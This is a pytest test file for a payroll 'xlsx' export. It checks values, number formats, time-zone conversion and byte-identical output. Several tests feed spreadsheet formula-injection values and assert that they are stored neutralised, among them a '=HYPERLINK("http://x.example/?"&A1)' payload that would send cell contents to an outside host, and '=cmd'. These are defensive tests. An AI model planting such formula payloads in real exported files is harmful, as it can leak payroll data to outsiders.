"""The ``xlsx`` workbook, opened back with openpyxl: values, types, number formats, determinism."""

from __future__ import annotations

import dataclasses
import hashlib
import io
import time
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from payroll_exports import EmployeeTotals, EntryDetail, ExportContext, get_format
from payroll_exports.formats.csv_basic import SUMMARY_HEADER
from payroll_exports.formats.xlsx import DETAIL_HEADER


@pytest.fixture
def workbook_bytes(
    ctx: ExportContext, totals: Sequence[EmployeeTotals], details: Sequence[EntryDetail]
) -> bytes:
    return get_format("xlsx").render(ctx, totals, details)


def _sheet(content: bytes, title: str) -> Worksheet:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Summary", "Detail"]
    sheet = workbook[title]
    assert isinstance(sheet, Worksheet)
    return sheet


def _row(sheet: Worksheet, number: int) -> dict[str, Cell]:
    header = [str(cell.value) for cell in sheet[1]]
    cells = [cell for cell in sheet[number] if isinstance(cell, Cell)]
    return dict(zip(header, cells, strict=True))


def test_summary_sheet_values_types_and_formats(workbook_bytes: bytes) -> None:
    sheet = _sheet(workbook_bytes, "Summary")
    assert tuple(cell.value for cell in sheet[1]) == SUMMARY_HEADER
    assert sheet.max_row == 4
    assert [sheet.cell(row, 1).value for row in (2, 3, 4)] == ["0005", "0042", "0107"]

    jose = _row(sheet, 3)
    expected = {
        "employee_number": ("0042", "s", "General"),
        "employee_name": ("José Núñez", "s", "General"),
        "period_start": (datetime(2026, 11, 16), "d", "yyyy-mm-dd"),
        "period_end": (datetime(2026, 11, 29), "d", "yyyy-mm-dd"),
        "regular_hours": (40, "n", "0.00"),
        "overtime_hours": (1.5, "n", "0.00"),
        "double_time_hours": (0, "n", "0.00"),
        "hourly_rate": (25.5, "n", "0.00##"),
        "regular_pay": (1020, "n", "0.00"),
        "overtime_pay": (57.38, "n", "0.00"),
        "double_time_pay": (0, "n", "0.00"),
        "gross_pay": (1077.38, "n", "0.00"),
        "currency": ("USD", "s", "General"),
    }
    for name, (value, data_type, number_format) in expected.items():
        cell = jose[name]
        assert (cell.value, cell.data_type, cell.number_format) == (
            value,
            data_type,
            number_format,
        ), name

    dana = _row(sheet, 4)
    assert dana["employee_name"].value == "'+Dana O'Neil"
    assert dana["double_time_pay"].value == 72  # 2.00 h x 36.00, as the row shows
    assert dana["gross_pay"].value == 616.5


def test_detail_sheet_one_row_per_entry_in_local_time(workbook_bytes: bytes) -> None:
    sheet = _sheet(workbook_bytes, "Detail")
    assert tuple(cell.value for cell in sheet[1]) == DETAIL_HEADER
    assert sheet.max_row == 6  # five entries

    first = _row(sheet, 2)  # José, 11-16: 14:00Z-22:30:30Z is 08:00-16:30:30 in Chicago
    values = {name: cell.value for name, cell in first.items()}
    assert values == {
        "employee_number": "0042",
        "employee_name": "José Núñez",
        "work_date": datetime(2026, 11, 16),
        "started_at": datetime(2026, 11, 16, 8, 0),
        "ended_at": datetime(2026, 11, 16, 16, 30, 30),
        "paid_started_at": datetime(2026, 11, 16, 8, 0),
        "paid_ended_at": datetime(2026, 11, 16, 16, 30, 30),
        "timezone": "America/Chicago",
        "break_hours": 0.5,
        "worked_hours": 8.01,  # 28830 s = 8.00833 h
        "regular_hours": 8.01,
        "overtime_hours": 0,
        "double_time_hours": 0,
        "task": "Roof repair",
        "job": "Acme Corp:Roof",
        "flags": "OUTSIDE_GEOFENCE",
        "approver": "Mia Boss",
        "note": "Ladder\tissue\nfixed",  # a spreadsheet cell may hold tabs and line breaks
    }
    assert first["started_at"].number_format == "yyyy-mm-dd hh:mm"
    assert first["work_date"].number_format == "yyyy-mm-dd"
    assert first["break_hours"].number_format == "0.00"

    # Rows are ordered by employee, date, start: José's 11-20 entries are 13:00Z then 23:30Z.
    assert [sheet.cell(row, 4).value for row in (4, 5)] == [
        datetime(2026, 11, 20, 7, 0),
        datetime(2026, 11, 20, 17, 30),
    ]
    shop = _row(sheet, 5)
    assert shop["note"].value == '\'=HYPERLINK("http://x")'
    assert shop["job"].value is None
    assert shop["task"].value is None

    dana = _row(sheet, 6)
    assert dana["approver"].value == "'=Mallory"
    assert dana["note"].value == "Fixed boiler \N{FIRE}"  # xlsx is Unicode: nothing lost
    assert dana["ended_at"].value == datetime(2026, 11, 17, 18, 30)


def test_no_cell_is_a_formula_even_for_unlisted_text(
    ctx: ExportContext, totals: Sequence[EmployeeTotals], details: Sequence[EntryDetail]
) -> None:
    hostile = [dataclasses.replace(details[0], task_title="=1+1", flags=["=2+2"])]
    sheet = _sheet(get_format("xlsx").render(ctx, totals, hostile), "Detail")
    row = _row(sheet, 2)
    assert row["task"].value == "'=1+1"
    # Every text cell, codes included, is neutralised and stored as a string.
    assert (row["flags"].value, row["flags"].data_type) == ("'=2+2", "s")
    for cells in sheet.iter_rows():
        assert all(cell.data_type != "f" for cell in cells)


def test_employee_number_is_neutralised_on_both_sheets(
    ctx: ExportContext, details: Sequence[EntryDetail]
) -> None:
    number = '=HYPERLINK("http://x.example/?"&A1)'
    row = EmployeeTotals(number, "Ann", "Lee", Decimal("10.00"), regular_seconds=3600)
    entry = dataclasses.replace(details[0], employee_number=number)
    content = get_format("xlsx").render(ctx, [row], [entry])
    for title in ("Summary", "Detail"):
        cell = _row(_sheet(content, title), 2)["employee_number"]
        assert (cell.value, cell.data_type) == ("'" + number, "s")


def test_package_timestamps_are_fixed_to_the_period_end(workbook_bytes: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as package:
        assert {info.date_time for info in package.infolist()} == {(2026, 11, 29, 0, 0, 0)}
        core = package.read("docProps/core.xml").decode()
    assert '<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-29T00:00:00Z' in core
    assert '<dcterms:modified xsi:type="dcterms:W3CDTF">2026-11-29T00:00:00Z' in core
    workbook = openpyxl.load_workbook(io.BytesIO(workbook_bytes))
    assert workbook.properties.creator == "Fieldclock"


def test_two_renders_are_byte_identical_across_time(
    ctx: ExportContext,
    totals: Sequence[EmployeeTotals],
    details: Sequence[EntryDetail],
    workbook_bytes: bytes,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Pretend a day has passed: anything stamped with the wall clock would now differ.
    real_time = time.time
    monkeypatch.setattr(time, "time", lambda: real_time() + 86_400)
    assert get_format("xlsx").render(ctx, totals, details) == workbook_bytes


def test_control_characters_xml_forbids_are_dropped(
    ctx: ExportContext, details: Sequence[EntryDetail]
) -> None:
    dirty = [dataclasses.replace(details[0], note="a\x01b\x1fc")]
    sheet = _sheet(get_format("xlsx").render(ctx, [], dirty), "Detail")
    assert _row(sheet, 2)["note"].value == "abc"


# Exact bytes, as every format has (PAYROLL_FORMATS.md). A small input of its own, so that changes
# to the shared fixtures in conftest.py do not move the digest.
#
# The digest changes only if the renderer or openpyxl's version changes: docProps/app.xml names
# the openpyxl version and its XML serialisation is what we hash. pyproject.toml pins openpyxl
# exactly for that reason; the version check below fails first, with a clear message, should an
# install bring another. The members are DEFLATE-compressed by Python's zlib, so
# a different zlib implementation (zlib-ng, say) would also move it. When it moves, check
# test_exact_bytes_readable_contents still passes, then update the digest and the version here.
PINNED_OPENPYXL_VERSION = "3.1.5"
EXACT_SHA256 = "27a06a6cf34dd289da13583c3ca1f211951e676b6fe2003628d94138361e6b6d"


@pytest.fixture
def small_workbook_bytes() -> bytes:
    ctx = ExportContext(
        organization_name="Acme",
        period_start=date(2026, 3, 2),
        period_end=date(2026, 3, 8),
        currency="USD",
        timezone="America/Chicago",
    )
    totals = [
        EmployeeTotals(
            employee_number="0042",
            first_name="José",
            last_name="Núñez",
            hourly_rate=Decimal("25.50"),
            regular_seconds=8 * 3600,
            overtime_seconds=1800,
        )
    ]
    details = [
        EntryDetail(
            employee_number="0042",
            first_name="José",
            last_name="Núñez",
            work_date=date(2026, 3, 3),
            started_at=datetime(2026, 3, 3, 14, 0, tzinfo=UTC),
            ended_at=datetime(2026, 3, 3, 23, 0, tzinfo=UTC),
            paid_started_at=datetime(2026, 3, 3, 14, 0, tzinfo=UTC),
            paid_ended_at=datetime(2026, 3, 3, 23, 0, tzinfo=UTC),
            break_seconds=1800,
            worked_seconds=8 * 3600 + 1800,
            regular_seconds=8 * 3600,
            overtime_seconds=1800,
            task_title="Roof repair",
            flags=["OUTSIDE_GEOFENCE"],
            approver_name="Mia Boss",
            job_name="Acme Corp:Roof",
            note="=cmd",
        )
    ]
    return get_format("xlsx").render(ctx, totals, details)


def test_exact_bytes(small_workbook_bytes: bytes) -> None:
    assert openpyxl.__version__ == PINNED_OPENPYXL_VERSION, (
        f"openpyxl {openpyxl.__version__} is installed, the digest was pinned with "
        f"{PINNED_OPENPYXL_VERSION}: re-check the contents and re-pin EXACT_SHA256"
    )
    assert hashlib.sha256(small_workbook_bytes).hexdigest() == EXACT_SHA256


def test_exact_bytes_readable_contents(small_workbook_bytes: bytes) -> None:
    summary = _sheet(small_workbook_bytes, "Summary")
    assert list(summary.iter_rows(values_only=True)) == [
        SUMMARY_HEADER,
        (
            "0042",
            "José Núñez",
            datetime(2026, 3, 2),
            datetime(2026, 3, 8),
            8,
            0.5,
            0,
            25.5,
            204,
            19.13,  # 0.5 h x 25.50 x 1.5 = 19.125, half-up
            0,
            223.13,
            "USD",
        ),
    ]
    detail = _sheet(small_workbook_bytes, "Detail")
    assert list(detail.iter_rows(values_only=True)) == [
        DETAIL_HEADER,
        (
            "0042",
            "José Núñez",
            datetime(2026, 3, 3),
            datetime(2026, 3, 3, 8, 0),  # 14:00Z in Chicago (UTC-6 before DST starts 03-08)
            datetime(2026, 3, 3, 17, 0),
            datetime(2026, 3, 3, 8, 0),
            datetime(2026, 3, 3, 17, 0),
            "America/Chicago",
            0.5,
            8.5,
            8,
            0.5,
            0,
            "Roof repair",
            "Acme Corp:Roof",
            "OUTSIDE_GEOFENCE",
            "Mia Boss",
            "'=cmd",
        ),
    ]
